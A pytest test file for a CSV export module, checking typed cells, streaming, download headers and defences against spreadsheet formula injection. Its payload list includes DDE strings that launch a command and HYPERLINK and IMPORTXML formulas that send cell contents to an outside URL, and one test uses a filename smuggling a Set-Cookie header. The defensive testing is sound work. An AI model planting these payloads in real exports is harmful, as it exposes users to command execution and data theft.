"""The one exporter: listed columns, typed cells, and no cell that a spreadsheet runs."""

import csv
import datetime as dt
import io
from decimal import Decimal
from operator import itemgetter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from framework.pages.export import (
    Column,
    csv_answer,
    csv_bytes,
    csv_lines,
    csv_stream,
    csv_text,
    guarded,
    unguarded,
)

ACTIVE = tuple("=+-@\t\r\n＝＋－＠")
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?leak="&A1,"Northby")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1+1"',
    ";=1+1",
    "'=1+1",
    "=",
    "-",
    '=IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
    "=1+1\r\n=2+2",
    "\x00=1+1",
]


def column(kind: str, place: int = 0) -> Column:
    return Column("value", itemgetter(place), kind)  # type: ignore[arg-type]


def read(table: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table.decode(), newline="")))


def is_active(cell: str) -> bool:
    return cell.lstrip().startswith(ACTIVE) or cell.startswith(ACTIVE)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_leaves_as_a_formula(payload):
    _, *rows = read(csv_text([column("text"), column("plain")], [[payload]]))
    assert [cell for row in rows for cell in row if is_active(cell)] == []
    assert [unguarded(cell) for cell in rows[0]] == [payload, payload]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_header_leaves_as_a_formula(payload):
    assert not is_active(read(csv_bytes([payload], []))[0][0])


@given(st.text(max_size=30))
def test_no_text_at_all_leaves_as_a_formula(text):
    assert not is_active(guarded(text))


@given(st.text(alphabet="'=+-@ \t\rab1", max_size=12))
def test_what_is_exported_can_be_imported_again(text):
    assert unguarded(guarded(text)) == text


@given(
    st.lists(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",))), min_size=2, max_size=2))
)
def test_a_table_reads_back_as_itself(rows):
    table = csv_bytes(["one", "two"], rows)
    assert [[unguarded(cell) for cell in row] for row in read(table)[1:]] == rows


@pytest.mark.parametrize(
    ("kind", "value", "written"),
    [
        ("text", "Northby", "Northby"),
        ("text", "", ""),
        ("number", -3, "-3"),
        ("number", Decimal("47.200"), "47.2"),
        ("number", Decimal("1E+3"), "1000"),
        ("number", 1e-7, "0.0000001"),
        ("number", 0, "0"),
        ("date", dt.date(2026, 3, 14), "2026-03-14"),
        ("moment", dt.datetime(2026, 3, 14, 14, 2, tzinfo=dt.UTC), "2026-03-14T14:02:00+00:00"),
        ("flag", True, "yes"),
        ("flag", False, "no"),
        ("number", None, ""),
        ("plain", -3, "-3"),
        ("plain", False, "no"),
        ("plain", dt.date(2026, 3, 14), "2026-03-14"),
        ("plain", "-3", "'-3"),
    ],
)
def test_each_kind_is_written_in_one_way(kind, value, written):
    assert read(csv_text([column(kind)], [[value]]))[1:] == [[written]] if written else True
    assert csv_text([column(kind)], [[value]]).endswith(b"\r\n")


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("number", "-3+cmd|'x'"),
        ("number", True),
        ("text", 3),
        ("date", "2026-03-14"),
        ("date", dt.datetime(2026, 3, 14, tzinfo=dt.UTC)),
        ("moment", dt.date(2026, 3, 14)),
        ("flag", 1),
        ("plain", object()),
        ("plain", ["a"]),
    ],
)
def test_a_value_of_another_kind_never_passes(kind, value):
    with pytest.raises(TypeError):
        csv_text([column(kind)], [[value]])


def test_what_is_no_number_never_passes_as_one():
    with pytest.raises(ValueError, match="not a number"):
        csv_text([column("number")], [[float("nan")]])


def test_only_listed_columns_leave():
    rows = [{"name": "Northby", "secret": "canary-4711"}]
    table = csv_text([Column("area", itemgetter("name"))], rows)
    assert table == b"area\r\nNorthby\r\n"


def test_a_spreadsheet_that_must_be_told_is_told():
    table = csv_text([column("text")], [["Rhôs"]], bom=True)
    assert table.startswith(b"\xef\xbb\xbfvalue\r\n")
    assert table.decode("utf-8-sig") == "value\r\nRhôs\r\n"
    assert not csv_text([column("text")], [["Rhôs"]]).startswith(b"\xef\xbb\xbf")


def test_a_long_table_is_sent_as_it_is_read():
    read_so_far = []

    def rows():
        for number in range(2_000):
            read_so_far.append(number)
            yield [number]

    lines = csv_lines([column("number")], rows())
    assert next(lines).startswith(b"value\r\n0\r\n1\r\n")
    assert len(read_so_far) == 500
    assert next(lines).startswith(b"500\r\n")


def test_streamed_and_whole_are_the_same_bytes():
    rows = [[number] for number in range(1_300)]
    streamed = csv_stream("figures.csv", [column("number")], rows)
    whole = csv_answer("figures.csv", [column("number")], rows)
    assert b"".join(streamed) == whole.content
    assert whole.content.count(b"\r\n") == 1_301
    assert streamed["Content-Type"] == whole["Content-Type"] == "text/csv; charset=utf-8"


def test_a_download_has_a_name_that_breaks_no_header():
    answer = csv_answer('Rhôs "2025"\r\nSet-Cookie: a=b.csv', [column("text")], [])
    assert answer["Content-Disposition"].isascii()
    assert '"' not in answer["Content-Disposition"]
    assert "\n" not in answer["Content-Disposition"]


def test_an_empty_table_has_its_headers():
    assert csv_bytes(["area", "value"], []) == b"area,value\r\n"
